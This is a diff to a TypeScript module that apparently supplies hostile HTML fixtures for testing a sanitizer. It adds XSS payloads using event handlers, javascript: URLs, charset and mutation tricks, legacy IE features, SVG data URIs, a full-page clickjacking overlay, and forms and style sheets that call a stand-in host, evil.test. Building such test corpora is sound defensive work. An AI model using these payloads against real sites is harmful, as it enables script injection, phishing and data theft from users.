@@ -103,4 +103,22 @@ export const hostileLetters: Readonly<Record<string, string>> = {
   'null bytes and odd blanks': `<img\u0000 src=x onerror=${run}><im\u0000g src=x onerror=${run}><a\u000chref="java\u0000script:${run}">x</a><img src=x\u2028onerror=${run}>`,
   'characters that turn about': `<a href="https://evil.test/">\u202egnp.eliforp\u202c</a><p>\u2066${'\u202e'.repeat(50)}x</p>`,
   'UTF-7 and what is taken for it': `+ADw-script+AD4-${run}+ADw-/script+AD4-<meta charset=utf-7>`,
+  'what asks our own server': `<img src="/api/v1/me"><img src="picture.png"><table background="/api/v1/session"></table><style>@import 'sheet.css';p{background:url(/api/v1/me)}</style><a href="/api/v1/session" ping="/api/v1/me">x</a>`,
+  'a command of one element to another': `<button command=show-modal commandfor=d autofocus onfocus="${run}">x</button><dialog id=d oncommand="${run}">y</dialog><a href=# interestfor=d>z</a>`,
+  'what is dragged': `<div draggable=true ondragstart="${run}" ondrag="${run}">x</div><div ondrop="${run}" ondragover="${run}" contenteditable>y</div>`,
+  'a frame by another door': `<iframe src="view-source:https://evil.test/"></iframe><iframe src="mhtml:https://evil.test/x.html!y"></iframe><iframe sandbox="allow-scripts allow-same-origin" src="https://evil.test/"></iframe>`,
+  'a form that tells more than it shows': `<form action="https://evil.test/" method=post><input name=a value=b dirname=c><input type=image src="https://evil.test/i.png"><button type=submit autofocus>x</button></form><keygen autofocus onfocus="${run}"><isindex action="javascript:${run}" onfocus="${run}">`,
+  'events of XML': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler><listener event=load handler="#h" observer=x /><x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load ev:handler="javascript:${run}"/></svg>`,
+  'what Internet Explorer knew': `<div style="behavior:url(#default#time2)" onbegin="${run}">x</div><xml id=i src="https://evil.test/x.xml"></xml><label datasrc="#i" datafld=p dataformatas=html>y</label><script for=document event=onreadystatechange>${run}</script><comment><img src="</comment><img src=x onerror=${run}//"></comment><!--[if]><script>${run}</script -->`,
+  'a handler behind a grave accent':
+    '<img alt="``onerror=RUN"><img src=x:x onerror=`RUN`><div id="`"><x onclick=`RUN` y="`">z</x></div>'.replaceAll(
+      'RUN',
+      run,
+    ),
+  'a charset that hides tags': `<meta charset=x-mac-farsi>\u00bcscript \u00be${run}//\u00bc/script \u00be<meta charset=x-imap4-modified-utf7>&ADw-script&AD4-${run}&ADw-/script&AD4-<meta http-equiv=content-type content="text/html; charset=iso-2022-jp">\u001b$B<img alt="\u001b(B"><img src=x onerror=${run}>`,
+  'a tag that is none': `<//img src=x onerror=${run}><? a="><img src=x onerror=${run}>"><! b="><img src=x onerror=${run}>"></ c="><img src=x onerror=${run}>"><![><img src="]><img src=x onerror=${run}//">`,
+  'a picture that is a document': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='https://evil.test/in.png'/><script>${run}</script></svg>"><div style="filter:url('data:image/svg+xml,<svg><script>${run}</script></svg>')">x</div>`,
+  'a style sheet that carries a style sheet': `<style>@import "data:text/css,p{background:url(https://evil.test/d.png)}";</style><link rel=stylesheet href="data:text/css,@import url(https://evil.test/e.css)">`,
+  'what lies over the page': `<div style="position:fixed;inset:0;z-index:2147483647;background:url(https://evil.test/over.png)"><a href="javascript:${run}" style="position:absolute;inset:0">Sign in again</a></div>`,
+  'measuring by a reader’s machine': `<img attributionsrc="https://evil.test/a" src="data:,"><a attributionsrc="https://evil.test/b" href="https://evil.test/">x</a><img src=x elementtiming=t onload="${run}" fetchpriority=high crossorigin>`,
 };
